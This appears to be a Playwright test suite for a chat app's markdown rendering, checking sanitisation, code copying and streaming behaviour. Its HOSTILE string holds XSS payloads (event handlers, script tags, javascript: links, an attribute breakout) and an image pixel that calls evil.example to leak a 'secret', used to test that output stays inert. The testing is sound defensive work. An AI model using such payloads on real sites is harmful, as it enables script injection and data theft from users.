"""The answer of a model is not to be trusted, and nothing leaves the server."""

from conftest import Opener, ask, signed_in
from fake_gateway import FakeGateway, Reply
from playwright.sync_api import Page, Request, expect

HOSTILE = r"""
<img src=x onerror="window.hit=1"> <script>window.hit=2</script>
<svg onload="window.hit=3"><a xlink:href="javascript:window.hit=4">x</a></svg>
<iframe src="https://evil.example/"></iframe><style>body{display:none}</style>

[click](javascript:window.hit=5) [data](data:text/html,<script>window.hit=6</script>)
![pixel](https://evil.example/leak?q=secret) ![](javascript:window.hit=7)
[ok](https://example.com/ "title\" onmouseover=\"window.hit=8")
[mail](mailto:a@b.c) [here](/v1/models)

| a | b |
|---|---|
| <b onclick="window.hit=9">x</b> | <form action="https://evil.example"><input name=q></form> |

```html"><img src=x onerror=window.hit=10>
<script>window.hit=11</script>
```

END
"""


EXAMPLE = """## 标题

- 甲
- 乙

| 列 | 数 |
|---|--:|
| a | 1 |

```python
print('好')
```
"""


def test_hostile_markdown_is_inert_and_fetches_nothing(
    page: Page, fake: FakeGateway, page_url: str
) -> None:
    away: list[str] = []
    page.on("request", lambda request: away.append(request.url) if _away(request) else None)

    def _away(request: Request) -> bool:
        return not request.url.startswith((page_url, "data:", "blob:"))

    fake.replies = [Reply(pieces=[HOSTILE[i : i + 7] for i in range(0, len(HOSTILE), 7)])]
    ask(page, HOSTILE)
    prose = page.locator(".message.assistant .prose")
    expect(prose).to_contain_text("END")
    expect(page.locator(".endnote")).to_be_visible()
    assert prose.locator("img, script, svg, iframe, style, form, input, b").count() == 0
    assert page.locator(".question").locator("*").count() == 0
    links = prose.locator("a")
    targets = links.evaluate_all("nodes => nodes.map((n) => [n.href, n.rel, n.target])")
    assert [href for href, _, _ in targets] == [
        "https://evil.example/leak?q=secret", "https://example.com/",
    ]  # fmt: skip
    assert all("noopener" in rel and target == "_blank" for _, rel, target in targets)
    strange = prose.evaluate(
        "node => [...node.querySelectorAll('*')].flatMap((n) => [...n.attributes])"
        ".filter((a) => a.name.startsWith('on') || a.name === 'style').length"
    )
    assert strange == 0
    for cell in prose.locator("td, a").all():
        cell.hover()
    assert page.evaluate("window.hit") is None
    assert away == []


def test_markdown_is_rendered_and_code_can_be_copied(page: Page, fake: FakeGateway) -> None:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    fake.replies = [Reply(pieces=list(EXAMPLE))]
    ask(page, "示例")
    prose = page.locator(".prose")
    expect(prose.locator("h2")).to_have_text("标题")
    expect(prose.locator("li")).to_have_text(["甲", "乙"])
    expect(prose.locator("table td").first).to_have_text("a")
    expect(page.locator(".endnote")).to_be_visible()
    expect(prose.locator("code .hljs-string")).to_have_text("'好'")
    prose.get_by_role("button", name="复制").click()
    expect(prose.get_by_role("button", name="已复制")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()").strip() == "print('好')"


def test_a_selection_survives_the_growing_answer(page: Page, fake: FakeGateway) -> None:
    fake.replies = [Reply(pieces=["第一段。\n\n", "第二段", "继续", "完"], hold_after=2)]
    ask(page, "写两段")
    expect(page.locator(".prose")).to_contain_text("第二段")
    page.evaluate("getSelection().selectAllChildren(document.querySelector('.prose p'))")
    fake.release()
    expect(page.locator(".prose")).to_contain_text("第二段继续完")
    assert page.evaluate("getSelection().toString()") == "第一段。"


def test_text_is_readable_when_a_part_of_the_page_cannot_be_loaded(
    new_page: Opener, fake: FakeGateway, page_url: str
) -> None:
    page = new_page()
    page.route("**/assets/markdown-*.js", lambda route: route.abort())
    fake.replies = [Reply(pieces=["**粗** <img src=x ", "onerror='window.hit=1'>"])]
    signed_in(page, page_url, fake.key)
    ask(page, "问题")
    expect(page.locator(".prose")).to_have_text("**粗** <img src=x onerror='window.hit=1'>")
    assert page.locator(".prose img").count() == 0
